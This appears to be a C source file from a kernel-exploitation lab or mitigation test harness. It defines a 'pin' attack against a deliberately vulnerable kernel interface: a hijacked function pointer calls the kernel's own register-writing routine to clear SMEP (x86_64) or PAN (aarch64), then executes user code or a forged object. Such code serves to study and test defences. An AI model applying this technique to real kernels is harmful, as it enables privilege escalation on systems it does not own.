/*
 * Two steps.  What forbids the older attacks is a bit in a control register, and the kernel has a function that
 * writes the register.  So its hijacked pointer goes there first, with a value that lacks the bit, and then the
 * older attack goes as it used to: on x86_64 the kernel runs a page of ours, on aarch64 it follows a forged object.
 *
 * The image says how far apart its functions are; one leaked address tells where they are today.
 */
#define _GNU_SOURCE
#include "user/attack/attack.h"

#include <sched.h>
#include <string.h>

#include "user/cpu.h"

/* The register is this processor's alone. */
static void
stay_here(void)
{
	if (pin(sched_getcpu()) != 0)
		give_up("sched_setaffinity");
}

static uint64_t
linked_at(const char *name)
{
	struct vuln_symbol symbol = { "", 0 };

	strcpy(symbol.name, name);
	vuln(VULN_LINKED, &symbol);
	return symbol.address;
}

/* Makes the kernel call a function of its own, with an argument of ours. */
static void
hijack(const char *function, uint64_t argument)
{
	struct vuln_places places = vuln_places();

	vuln_write(places.handler, places.victim - linked_at("vuln_victim") + linked_at(function));
	vuln_call(argument);
	vuln_write(places.handler, places.victim);
}

#if defined(__x86_64__)
/* What the kernel has there, without SMEP: PAE, PGE, OSFXSR, OSXMMEXCPT, UMIP, OSXSAVE and SMAP. */
#define CR4 0x240ea0

static void
run(void)
{
	struct vuln_places places = vuln_places();

	stay_here();
	step("legal: the kernel calls its own handler");
	vuln_call_legally();

	step("illegal: the handler becomes the function that writes CR4, for a value without SMEP");
	hijack("x86_write_cr4", CR4);

	step("illegal: the handler becomes the program's code");
	vuln_write(places.handler, (uint64_t)attack_payload);
	vuln_call(places.mark);
	vuln_write(places.handler, places.victim);
}
#elif defined(__aarch64__)
#include "arch/aarch64/sysreg.h"

static struct vuln_object fake;

static void
run(void)
{
	struct vuln_set set = { 0, 1 };

	stay_here();
	step("legal: the kernel calls its own handler; a new object takes a value");
	vuln_call_legally();
	vuln(VULN_OBJECT_NEW, &set);
	set.value = 1;
	vuln(VULN_OBJECT_SET, &set);

	step("illegal: the handler becomes the function that writes SCTLR_EL1, so that exceptions do not set PAN");
	hijack("a64_write_sctlr", SCTLR_INIT | SCTLR_WXN | SCTLR_SPAN);

	step("illegal: the handle is a user address, the object a forgery");
	fake.slot = (uint64_t *)vuln_places().mark;
	set.handle = (uint64_t)&fake;
	set.value = MAGIC;
	vuln(VULN_OBJECT_SET, &set);
}
#endif

ATTACK(pinned) = {
	.name = "pin",
	.what = "a hijacked pointer clears the bit, the older attack follows",
	.needs_off_x86_64 = "pin",
	.needs_off_aarch64 = "pin",
	.run = run,
};
